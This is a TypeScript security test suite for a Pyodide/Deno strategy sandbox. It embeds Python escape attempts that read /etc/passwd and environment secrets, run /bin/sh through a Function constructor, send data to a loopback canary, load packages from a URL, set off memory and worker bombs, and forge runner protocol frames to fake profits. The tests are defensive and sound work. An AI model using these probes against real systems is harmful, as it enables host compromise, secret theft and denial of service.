// Hostile strategies through the real HTTP path and the real sandbox. Each one tries a way out of
// the runner child (one test per route) and must end failed or harmless: nothing of the host (files,
// environment, secrets, network, processes) reaches its logs or results, no side effect lands on the
// host, and the server keeps serving the simulator API.

import { afterAll, beforeAll, describe, expect, it } from 'bun:test';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { encodeFrame } from '../../runner/protocol.ts';
import { makePlaygroundApp, type PlaygroundApp, SANDBOX_HOOK_MS, SANDBOX_TEST_MS } from '../support/playground.ts';

// A one-session, 1 h run: 23 bars, so each attack costs little more than starting a child.
const RUN = { instrument: 'NQ', startDate: '2025-02-27', timeframe: '1h' };
const SECRET = `escape-canary-${crypto.randomUUID()}`;
const MARKER = join(tmpdir(), `rd-escape-${crypto.randomUUID()}`);
const PASSWD_LINE = readFileSync('/etc/passwd', 'utf8').split('\n')[0];

let p: PlaygroundApp;
let canary: ReturnType<typeof Bun.serve>;
let canaryHits: string[] = [];
let canaryUrl = '';
let token = '';

beforeAll(async () => {
  process.env.REPLAYDESK_ESCAPE_SECRET = SECRET;
  canary = Bun.serve({
    hostname: '127.0.0.1',
    port: 0,
    fetch(req) {
      canaryHits.push(new URL(req.url).pathname);
      return new Response('pwned');
    },
  });
  canaryUrl = `http://127.0.0.1:${canary.port}`;
  p = await makePlaygroundApp();
  token = await p.login();
}, SANDBOX_HOOK_MS);

afterAll(async () => {
  await p.close();
  await canary.stop(true);
  delete process.env.REPLAYDESK_ESCAPE_SECRET;
  rmSync(MARKER, { force: true });
}, SANDBOX_HOOK_MS);

/** Runs `code` to its end and checks what every hostile run must satisfy; returns the execution. */
async function attack(code: string, allowed: string[] = ['completed', 'failed']): Promise<any> {
  canaryHits = [];
  const id = await p.run({ ...RUN, code });
  const x = await p.waitEnd(id);
  const seen = JSON.stringify(x);
  expect({ status: x.status, allowed: allowed.includes(x.status) }).toEqual({ status: x.status, allowed: true });
  expect(seen).not.toContain(SECRET);
  expect(seen).not.toContain(PASSWD_LINE);
  // Late network attempts would land now.
  await Bun.sleep(50);
  expect(canaryHits).toEqual([]);
  expect(existsSync(MARKER)).toBe(false);
  // The server still serves the simulator API.
  const ping = await p.app.handle(new Request('http://localhost/api/sim/Status/ping'));
  expect(await ping.text()).toBe('pong');
  const contracts = await p.post('Contract/search', { searchText: 'NQ' }, token);
  expect(contracts.body.success).toBe(true);
  return x;
}

const logsOf = (x: any): string => (x.logs as string[]).join('\n');

describe('escape attempts', () => {
  it('cannot read host files with open(), nor through js or pyodide_js', async () => {
    const x = await attack(`
import js, pyodide_js
def init(ctx):
    for path in ['/etc/passwd', '/etc/hostname', '/proc/self/environ', '/root/.bashrc']:
        try:
            print('READ', path, open(path).read()[:300])
        except Exception as e:
            print('DENIED open', path, type(e).__name__)
    for path in ['/etc/passwd', '${join(process.cwd(), 'package.json')}']:
        try:
            print('READ', path, js.Deno.readTextFileSync(path)[:300])
        except Exception as e:
            print('DENIED Deno', path, type(e).__name__, str(e)[:80])
    try:
        fs = pyodide_js.FS
        fs.mkdir('/host')
        fs.mount(fs.filesystems.NODEFS, js.Object.fromEntries([['root', '/']]), '/host')
        print('READ nodefs', open('/host/etc/passwd').read()[:300])
    except Exception as e:
        print('DENIED nodefs', type(e).__name__, str(e)[:80])
def on_bar(ctx, bar):
    pass
`);
    expect(x.status).toBe('completed');
    const logs = logsOf(x);
    expect(logs).toContain('DENIED open /etc/passwd FileNotFoundError');
    expect(logs).toMatch(/DENIED Deno \/etc\/passwd .*NotCapable/);
    expect(logs).toMatch(/DENIED Deno .*package\.json .*NotCapable/);
    expect(logs).toContain('DENIED nodefs');
    expect(logs).not.toContain('READ nodefs');
  }, SANDBOX_TEST_MS);

  it('sees none of the server\'s environment', async () => {
    const x = await attack(`
import os, js
def init(ctx):
    print('ENVIRON', sorted(os.environ.keys()))
    for name, f in [('Deno.env', lambda: js.Deno.env.toObject()), ('Deno.env.get', lambda: js.Deno.env.get('REPLAYDESK_ESCAPE_SECRET')), ('process.env', lambda: js.process.env.REPLAYDESK_ESCAPE_SECRET)]:
        try:
            print('GOT', name, f())
        except Exception as e:
            print('DENIED', name, type(e).__name__)
def on_bar(ctx, bar):
    pass
`);
    const logs = logsOf(x);
    expect(logs).toMatch(/DENIED Deno\.env .*/);
    expect(logs).toMatch(/DENIED Deno\.env\.get .*/);
    expect(logs).not.toContain('REPLAYDESK_ESCAPE_SECRET');
  }, SANDBOX_TEST_MS);

  it('reaches Function through a proxy constructor, and from there no file, process or FFI API works', async () => {
    const x = await attack(`
import js
def init(ctx):
    F = js.Array.new().constructor.constructor
    print('FUNCTION', F.name)
    probes = {
        'read': 'return Deno.readTextFileSync("/etc/passwd")',
        'write': 'Deno.writeTextFileSync("${MARKER}", "x"); return "wrote"',
        'run': 'return new TextDecoder().decode(new Deno.Command("/bin/sh", {args: ["-c", "touch ${MARKER}; cat /etc/passwd"]}).outputSync().stdout)',
        'ffi': 'return String(Deno.dlopen("libc.so.6", {getpid: {parameters: [], result: "i32"}}).symbols.getpid())',
        'env': 'return JSON.stringify(Deno.env.toObject())',
        'sys': 'return Deno.hostname()',
        'perm': 'return ["read", "write", "net", "env", "run", "ffi", "sys"].map((name) => name + "=" + Deno.permissions.querySync(name === "read" ? {name, path: "/etc"} : {name}).state).join(",")',
    }
    for name, body in probes.items():
        try:
            print('GOT', name, F.new(body)())
        except Exception as e:
            print('DENIED', name, type(e).__name__, str(e)[:60])
def on_bar(ctx, bar):
    pass
`);
    const logs = logsOf(x);
    expect(logs).toContain('FUNCTION Function');
    for (const name of ['read', 'write', 'run', 'ffi', 'env', 'sys']) expect(logs).toMatch(new RegExp(`DENIED ${name} `));
    // Reads outside Pyodide, the bundle and the snapshot query as "prompt", which --no-prompt turns into
    // the denial the read probe above shows.
    expect(logs).toContain('GOT perm read=prompt,write=denied,net=denied,env=denied,run=denied,ffi=denied,sys=denied');
  }, SANDBOX_TEST_MS);

  it('gets no network: fetch, sockets, urllib and pyfetch never reach a loopback canary', async () => {
    const x = await attack(`
import js
def init(ctx):
    url = '${canaryUrl}/exfil'
    F = js.Array.new().constructor.constructor
    for name, f in [
        ('urllib', lambda: __import__('urllib.request').request.urlopen(url, timeout=2).read()),
        ('socket', lambda: __import__('socket').create_connection(('127.0.0.1', ${'${canary.port}'}), timeout=2)),
        ('open_url', lambda: __import__('pyodide.http').http.open_url(url).read()),
        ('fetch', lambda: js.fetch(url)),
        ('connect', lambda: F.new('return Deno.connect({hostname: "127.0.0.1", port: ${'${canary.port}'}})')()),
        ('xhr', lambda: F.new('const x = new XMLHttpRequest(); x.open("GET", "' + url + '", false); x.send(); return x.responseText')()),
    ]:
        try:
            print('GOT', name, f())
        except Exception as e:
            print('DENIED', name, type(e).__name__)
def on_bar(ctx, bar):
    pass
`.replaceAll('${canary.port}', String(canary.port)));
    expect(logsOf(x)).toMatch(/DENIED urllib/);
    expect(logsOf(x)).toMatch(/DENIED socket/);
  }, SANDBOX_TEST_MS);

  it('cannot spawn processes', async () => {
    const x = await attack(`
import os, subprocess
def init(ctx):
    for name, f in [('subprocess', lambda: subprocess.run(['touch', '${MARKER}'])), ('fork', os.fork), ('spawn', lambda: os.posix_spawn('/bin/touch', ['touch', '${MARKER}'], {}))]:
        try:
            print('GOT', name, f())
        except Exception as e:
            print('DENIED', name, type(e).__name__)
def on_bar(ctx, bar):
    pass
`);
    expect(logsOf(x)).toContain('DENIED subprocess OSError');
    expect(logsOf(x)).toMatch(/DENIED fork /);
    expect(logsOf(x)).toMatch(/DENIED spawn /);
    // os.system reaches for the environment first; Deno refuses and Pyodide stops the process.
    const sys = await attack(`import os\ndef init(ctx):\n    os.system('touch ${MARKER}')\ndef on_bar(ctx, bar):\n    pass\n`, ['failed']);
    expect(sys.error).toBe('The sandbox refused an operation and the strategy process stopped (Requires env access)');
  }, SANDBOX_TEST_MS);

  it('cannot load packages: loadPackage from a URL, micropip', async () => {
    const x = await attack(`
import pyodide_js
def init(ctx):
    for name, f in [('loadPackage url', lambda: pyodide_js.loadPackage('${canaryUrl}/exfil-secret.whl')), ('loadPackage numpy', lambda: pyodide_js.loadPackage('numpy')), ('micropip', lambda: __import__('micropip'))]:
        try:
            print('GOT', name, f())
        except Exception as e:
            print('DENIED', name, type(e).__name__)
def on_bar(ctx, bar):
    pass
`);
    expect(logsOf(x)).toMatch(/DENIED micropip ModuleNotFoundError/);
  }, SANDBOX_TEST_MS);

  it('an infinite loop is killed at the timeout', async () => {
    const q = await makePlaygroundApp({ playgroundTimeoutS: 2, runnerPoolSize: 0 });
    try {
      const x = await q.waitEnd(await q.run({ ...RUN, code: 'def on_bar(ctx, bar):\n    while True:\n        pass\n' }));
      expect(x.status).toBe('timeout');
      const ping = await q.app.handle(new Request('http://localhost/api/sim/Status/ping'));
      expect(await ping.text()).toBe('pong');
    } finally {
      await q.close();
    }
  }, SANDBOX_TEST_MS);

  it('deep recursion ends the run as failed', async () => {
    const x = await attack(`
import sys
sys.setrecursionlimit(10**7)
def down(n):
    return down(n + 1) + 1
def init(ctx):
    down(0)
def on_bar(ctx, bar):
    pass
`, ['failed']);
    expect(x.error).toBe('The strategy recursed too deeply (stack overflow); the sandbox stopped it');
  }, SANDBOX_TEST_MS);

  it('a Python memory bomb ends as failed with MemoryError', async () => {
    const x = await attack(`
def init(ctx):
    hoard = []
    while True:
        hoard.append(bytearray(50 * 1024 * 1024))
def on_bar(ctx, bar):
    pass
`, ['failed']);
    expect(x.error).toContain('MemoryError');
  }, SANDBOX_TEST_MS);

  it('a JavaScript heap bomb ends as failed: out of memory', async () => {
    const x = await attack(`
import js
def init(ctx):
    js.Array.new().constructor.constructor.new('const a = []; for (;;) a.push(new Array(1e6).fill(1.5));')()
def on_bar(ctx, bar):
    pass
`, ['failed']);
    expect(x.error).toBe('The strategy ran out of memory (the sandbox allows 512 MB of JavaScript heap and 1 GiB for Python)');
  }, SANDBOX_TEST_MS);

  it('an output flood is cut at the bound, with a note', async () => {
    const x = await attack(`
def init(ctx):
    for i in range(300000):
        print('flood', i, 'x' * 80)
def on_bar(ctx, bar):
    print('bar', bar.index)
`);
    expect(x.status).toBe('completed');
    expect(x.logs.length).toBeLessThanOrEqual(2001);
    expect(x.logs.at(-1)).toMatch(/^\[output truncated: \d+ more lines not shown\]$/);
  }, SANDBOX_TEST_MS);

  it('a Worker bomb ends failed or at the deadline, and the host is untouched', async () => {
    // The open-files cap can stop it (failed): that took 17 s on a quiet machine, spawning Workers
    // while the spinning ones starve the child's own thread. The run's deadline (timeout) is the
    // defence that holds whatever the machine's speed, so this app's is short: the bomb has
    // 5 s from the sandbox's start, and the test no longer waits for the cap (the command line's cap
    // and its message are checked in test/runner/sandbox.test.ts).
    const q = await makePlaygroundApp({ playgroundTimeoutS: 5, runnerPoolSize: 0 });
    try {
      const x = await q.waitEnd(await q.run({ ...RUN, code: `
import js
def init(ctx):
    print('spawning')
    js.Array.new().constructor.constructor.new('for (let i = 0; i < 5000; i++) new Worker("data:text/javascript,for(;;){}", {type: "module"}); return "spawned"')()
def on_bar(ctx, bar):
    pass
` }));
      expect(['completed', 'failed', 'timeout']).toContain(x.status);
      // The bomb went off, whichever defence ended it.
      expect(x.logs[0]).toBe('spawning');
      if (x.status === 'failed') expect(x.error).toBe('The strategy exceeded the sandbox limit on open files (threads and workers)');
      if (x.status === 'timeout') expect(x.error).toBe('Execution exceeded the 5-second time limit');
      expect(JSON.stringify(x)).not.toContain(SECRET);
      const ping = await q.app.handle(new Request('http://localhost/api/sim/Status/ping'));
      expect(await ping.text()).toBe('pong');
    } finally {
      await q.close();
    }
  }, SANDBOX_TEST_MS);

  it('a sandbox that dies keeps what the strategy printed before, with the failure', async () => {
    // Printed in init and on bars 0-2, then the child dies on bar 3 in three ways: a refused
    // permission, raw bytes on stdout, out of memory. Bars 1-3 are in one batch (the UTC day of
    // 2025-02-27), whose reply never comes: what they printed must have left the child already.
    const prelude = `
import js, os
def init(ctx):
    print('init ran')
def on_bar(ctx, bar):
    if bar.index < 3:
        ctx.log('bar', bar.index)
        return
    die()
`;
    const deaths: [string, string][] = [
      ["def die():\n    os.system('true')\n", 'The sandbox refused an operation and the strategy process stopped (Requires env access)'],
      ["def die():\n    js.Deno.stdout.writeSync(js.Uint8Array.new([255, 255, 255, 255, 1, 2, 3]))\n    while True:\n        pass\n", ''],
      ["def die():\n    js.Array.new().constructor.constructor.new('const a = []; for (;;) a.push(new Array(1e6).fill(1.5));')()\n", 'The strategy ran out of memory (the sandbox allows 512 MB of JavaScript heap and 1 GiB for Python)'],
    ];
    for (const [die, error] of deaths) {
      const x = await attack(`${prelude}${die}`, ['failed']);
      if (error) expect(x.error).toBe(error);
      else expect(x.error).toMatch(/^The strategy process broke the runner protocol \(.+\); the run was stopped$/);
      expect(x.logs).toEqual([
        'init ran',
        '[2025-02-26 23:00:00] bar 0',
        '[2025-02-27 00:00:00] bar 1',
        '[2025-02-27 01:00:00] bar 2',
      ]);
      // Each line with the open time of the bar that printed it (none for init's).
      expect(x.logTimes).toEqual([null, '2025-02-26T23:00:00Z', '2025-02-27T00:00:00Z', '2025-02-27T01:00:00Z']);
    }
  }, SANDBOX_TEST_MS);

  it('forged protocol frames are not believed: no fake completion, no fake P&L', async () => {
    const rich = 999_999_999_00;
    const bytes = (m: object) => `bytes([${[...encodeFrame(m)].join(',')}])`;
    // Before the host expects a batch, at the first bar (a reply to batch 1 with a fake balance), and a
    // fake end while batch 2 runs.
    const forgeries = [
      `def init(ctx):\n    forge(${bytes({ t: 'finished', acts: [], logs: [], error: null, balanceCents: rich, fillCount: 0 })})\ndef on_bar(ctx, bar):\n    pass\n`,
      `def on_bar(ctx, bar):\n    if bar.index == 0:\n        forge(${bytes({ t: 'batch', seq: 1, done: 1, acts: [], logs: ['forged'], error: null, balanceCents: rich, fillCount: 0 })})\n`,
      `def on_bar(ctx, bar):\n    if bar.index == 5:\n        forge(${bytes({ t: 'finished', acts: [], logs: [], error: null, balanceCents: rich, fillCount: 0 })})\n`,
    ];
    for (const body of forgeries) {
      const x = await attack(`import js\ndef forge(data):\n    js.Deno.stdout.writeSync(js.Uint8Array.new(list(data)))\n${body}`, ['failed']);
      expect(x.totalPnl).toBe(0);
      expect(x.balance).toBe(50_000);
      expect(x.results.finalBalance).toBe(50_000);
      expect(x.error).toMatch(/^The strategy process (broke the runner protocol|reported a state that does not match the engine)/);
    }
  }, SANDBOX_TEST_MS);

  it("forging the engine bridge's shared memory changes nothing: the next engine call rewrites it, and the record is the server's", async () => {
    // The glue's int64 array (runner/child/bridge.ts, SHARED) is reachable from user code: a forged
    // balance and fill count, and an order placed with forged fields, must not reach the result.
    const code = [
      'import gc',
      'def bridge():',
      '    return next(o for o in gc.get_objects() if type(o).__name__ == "_Bridge")',
      'def on_bar(ctx, bar):',
      '    b = bridge()',
      '    if bar.index == 3:',
      '        b._a[0] = 99_999_999_900',
      '        b._a[5] += 5',
      '        ctx.buy(1)',
      '    if bar.index == 4:',
      '        print("seen", ctx.balance < 1_000_000)',
      '        ctx.sell(1)',
      '    if bar.index == 6:',
      '        b._a[11] = 99  # an order type the engine does not have, placed directly',
      '        b._a[10] = 6',
      '        b._place()',
    ].join('\n');
    const x = await attack(code, ['failed']);
    expect(logsOf(x)).toContain('seen True');
    expect(x.error).toBe('The strategy process broke the runner protocol (bad place action); the run was stopped');
    // The batch that broke the protocol is not played at all: nothing of it, forged or real, is recorded.
    expect(x.totalTrades).toBe(0);
    expect(x.balance).toBe(50_000);
    expect(x.results.finalBalance).toBe(50_000);
  }, SANDBOX_TEST_MS);
});
